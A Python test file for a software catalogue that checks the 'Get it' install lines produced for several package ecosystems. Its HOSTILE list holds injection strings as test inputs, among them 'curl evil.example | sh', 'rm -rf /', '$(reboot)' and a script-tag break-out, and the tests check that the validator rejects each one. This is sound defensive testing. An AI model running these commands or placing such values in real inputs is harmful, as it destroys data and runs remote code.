"""The "Get it" lines: what a reader types for each kind of distribution, and no command from a value the
descriptor schema refuses."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from flask import Flask
from flask.testing import FlaskClient

from catalogue.services import distributions, layers

ANNEX = Path(__file__).parent.parent / "data" / "annex"


def _commands(entries: list[dict]) -> list[str | None]:
    return [item.command for item in distributions.instructions({"implementation": {"distributions": entries}})]


def test_each_kind_gives_the_line_its_ecosystem_documents() -> None:
    entries = [
        {"kind": "cran", "package": "sdcMicro"},
        {"kind": "pypi", "package": "banffprocessor"},
        {"kind": "pypi", "package": "banffprocessor", "version": "2.0.0"},
        {"kind": "npm", "package": "@sis-cc/dotstatsuite-sdmxjs", "version": "9.0.0"},
        {"kind": "nuget", "package": "Estat.Sri.Ws", "version": "8.1.0"},
        {"kind": "container", "image": "siscc/dotstatsuite-data-explorer:master"},
    ]
    assert _commands(entries) == [
        'install.packages("sdcMicro")',
        "pip install banffprocessor",
        "pip install banffprocessor==2.0.0",
        "npm install @sis-cc/dotstatsuite-sdmxjs@9.0.0",
        "dotnet add package Estat.Sri.Ws --version 8.1.0",
        "docker pull siscc/dotstatsuite-data-explorer:master",
    ]


def test_a_maven_artefact_is_a_dependency_block_and_a_coordinate() -> None:
    entry = {"kind": "maven", "group": "eu.europa.ec.joinup.sat", "artifact": "jdplus-sa-base-api", "version": "3.5.1"}
    (item,) = distributions.instructions({"implementation": {"distributions": [entry]}})
    assert item.language == "xml" and item.lines == 5
    assert "<groupId>eu.europa.ec.joinup.sat</groupId>" in item.command
    assert "<artifactId>jdplus-sa-base-api</artifactId>" in item.command
    assert "<version>3.5.1</version>" in item.command
    assert distributions.maven_coordinate(entry) == "eu.europa.ec.joinup.sat:jdplus-sa-base-api:3.5.1"


def test_a_download_is_a_link_not_a_command() -> None:
    (item,) = distributions.instructions(
        {"implementation": {"distributions": [{"kind": "download", "url": "https://example.org/tool.zip"}]}}
    )
    assert item.command is None and item.url == "https://example.org/tool.zip"


HOSTILE = [
    {"kind": "cran", "package": 'x"); system("rm -rf ~'},
    {"kind": "pypi", "package": "banff; curl evil.example | sh"},
    {"kind": "pypi", "package": "banff", "version": "1.0 && rm -rf /"},
    {"kind": "npm", "package": "$(reboot)"},
    {"kind": "nuget", "package": "Pkg`id`"},
    {"kind": "maven", "group": "org.x</groupId><script>", "artifact": "a"},
    {"kind": "container", "image": "alpine; rm -rf /"},
    {"kind": "download", "url": "javascript:alert(1)"},
]


@pytest.mark.parametrize("entry", HOSTILE, ids=[e["kind"] for e in HOSTILE])
def test_a_hostile_value_never_becomes_a_command(entry: dict) -> None:
    assert distributions.instructions({"implementation": {"distributions": [entry]}}) == []


@pytest.mark.parametrize("entry", HOSTILE, ids=[e["kind"] for e in HOSTILE])
def test_the_validator_refuses_the_hostile_value_with_its_pointer(client: FlaskClient, entry: dict) -> None:
    content = yaml.safe_load((ANNEX / "sdcmicro-library.yaml").read_text("utf-8"))
    content["implementation"]["distributions"] = [entry]
    response = client.post("/api/v1/validate", json=content)
    assert response.status_code == 200 and response.json["valid"] is False, response.json
    pointers = [error.get("pointer", "") for error in response.json["errors"]]
    assert any(p.startswith("/implementation/distributions/0") for p in pointers), pointers


def test_ecosystems_of_a_bundle_follow_the_schema_order() -> None:
    content = yaml.safe_load((ANNEX / "dotstat-container.yaml").read_text("utf-8"))
    assert distributions.ecosystems(layers.bundle(content)) == ["container", "download"]


def test_the_service_page_shows_the_get_it_box(app: Flask, make_user) -> None:
    client = app.test_client()
    token = make_user("submitter@statistik-austria.example", "STATISTIK-AUSTRIA", "submitter")
    text = (ANNEX / "sdcmicro-library.yaml").read_text("utf-8")
    response = client.post(
        "/api/v1/services",
        query_string={"status": "draft"},
        data=text.encode(),
        content_type="application/yaml",
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code == 201, response.json
    page = client.get("/services/sdcmicro-library", headers={"Authorization": f"Bearer {token}"})
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    assert "Get it" in body
    assert "install.packages(&#34;sdcMicro&#34;)" in body or "install.packages(&quot;sdcMicro&quot;)" in body
    # The other Annex 1 fields the page shows, from the bundle.
    for text in (
        "Library: <code>sdcMicro</code>",
        "createSdcObj",
        "Software version",
        "5.7.8",
        "Input messages",
        "Microaggregation",
    ):
        assert text in body, text


def test_submitting_a_hostile_distribution_is_a_problem_and_stores_nothing(app: Flask, make_user) -> None:
    client = app.test_client()
    token = make_user("submitter@statistik-austria.example", "STATISTIK-AUSTRIA", "submitter")
    content = yaml.safe_load((ANNEX / "sdcmicro-library.yaml").read_text("utf-8"))
    content["implementation"]["distributions"] = [{"kind": "container", "image": "alpine; rm -rf /"}]
    response = client.post("/api/v1/services", json=content, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 422 and response.mimetype == "application/problem+json"
    assert any(e["pointer"] == "/implementation/distributions/0/image" for e in response.json["errors"])
    assert (
        client.get("/api/v1/services/sdcmicro-library", headers={"Authorization": f"Bearer {token}"}).status_code == 404
    )


def test_every_seed_distribution_is_cited_in_the_seed_sources() -> None:
    """Fails when a distribution is added to a seed without the source that names it."""
    seeds = Path(__file__).resolve().parents[2] / "seed_services"
    sources = (seeds / "SOURCES.md").read_text("utf-8")
    found = 0
    for path in sorted(seeds.glob("*.yaml")):
        content = yaml.safe_load(path.read_text("utf-8"))
        section = sources.split(f"## {content['id']}\n", 1)[1].split("\n## ", 1)[0]
        for entry in content["implementation"].get("distributions", []):
            name = entry.get("package") or entry.get("artifact") or entry.get("image") or entry.get("url")
            assert f"`{name}`" in section or f"{name}" in section, (content["id"], name)
            found += 1
    assert found >= 3
